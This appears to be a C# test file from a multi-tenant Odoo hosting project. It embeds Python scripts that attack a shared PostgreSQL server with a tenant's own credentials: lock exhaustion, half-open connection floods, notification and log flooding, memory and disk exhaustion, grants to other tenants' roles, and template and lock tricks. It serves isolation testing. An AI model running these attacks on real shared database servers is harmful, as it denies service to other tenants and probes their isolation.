namespace SaaSOdoo.EndToEnd.Tests.Isolation;

/// <summary>
/// What the owner of an instance can do to its database server with the instance's own role: each goes on until it is stopped, and
/// comes back when its session is ended. They run in the instance's container, after <see cref="Prelude"/>.
/// </summary>
internal static class SqlAttacks
{
    public const string Prelude = """
        import configparser, psycopg2, select, socket, struct, time
        file = configparser.RawConfigParser()
        file.read("/etc/odoo/odoo.conf")
        conf = file["options"]

        def login(database=None):
            connection = psycopg2.connect(host=conf["db_host"], port=conf["db_port"], user=conf["db_user"],
                                          password=conf["db_password"], dbname=database or conf["db_name"])
            connection.autocommit = True
            return connection

        def run(connection, sql):
            connection.cursor().execute(sql)

        def again_and_again(attack):
            while True:
                try:
                    attack()
                except (psycopg2.Error, OSError):
                    time.sleep(0.2)

        """;

    public static readonly IReadOnlyDictionary<string, string> All = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        ["locks"] = """
            def attack():
                connection = login()
                try:
                    run(connection, "select count(pg_advisory_lock(g)) from generate_series(1, 1000000) g")
                except psycopg2.OperationalError:
                    pass
                while True:
                    run(connection, "select 1")
                    time.sleep(0.2)
            """,
        ["half_open_connections"] = """
            user = f"user\0{conf['db_user']}\0database\0{conf['db_name']}\0\0".encode()
            hello = struct.pack("!ii", 8 + len(user), 196608) + user
            def attack():
                held = []
                for number in range(320):
                    try:
                        one = socket.create_connection((conf["db_host"], int(conf["db_port"])), 2)
                        one.send(hello)
                        held.append(one)
                    except OSError:
                        pass
                time.sleep(3)
            """,
        ["notifications"] = """
            def attack():
                listener, talker = login(), login()
                for sql in ("listen x", "begin", "select 1"):
                    run(listener, sql)
                while True:
                    run(talker, "select count(pg_notify('x', g || repeat('x', 7900))) from generate_series(1, 1000) g")
                    if select.select([listener], [], [], 0.02)[0]:
                        listener.poll()
            """,
        ["log"] = """
            def attack():
                run(login(), "do $$ begin for i in 1..200000 loop raise log '%', repeat('x', 1000); end loop; end $$")
            """,
        ["memory_and_disk"] = """
            def attack():
                connection = login()
                run(connection, "set work_mem = '2GB'")
                run(connection, "select count(*) from (select repeat(g::text, 50) t from generate_series(1, 2000000) g order by 1) s")
            """,
        ["grants"] = """
            connection = login()
            run(connection, "create table if not exists bait (id int)")
            def attack():
                cursor = connection.cursor()
                cursor.execute("select rolname from pg_roles where rolname like 'odoo%'")
                for (role,) in cursor.fetchall():
                    try:
                        run(connection, f'grant select on bait to "{role}"')
                    except psycopg2.Error:
                        pass
            """,
        ["template_and_lock"] = """
            def attack():
                holder = login()
                run(holder, f"alter database {conf['db_name']} is_template true")
                for sql in ("begin", f"comment on database {conf['db_name']} is 'mine'"):
                    run(holder, sql)
                time.sleep(1)
            """,
        ["common_databases"] = """
            def attack():
                for database in ("postgres", "template1"):
                    run(login(database), "select lo_create(0)")
                    print("REACHED", flush=True)
            """,
    };
}
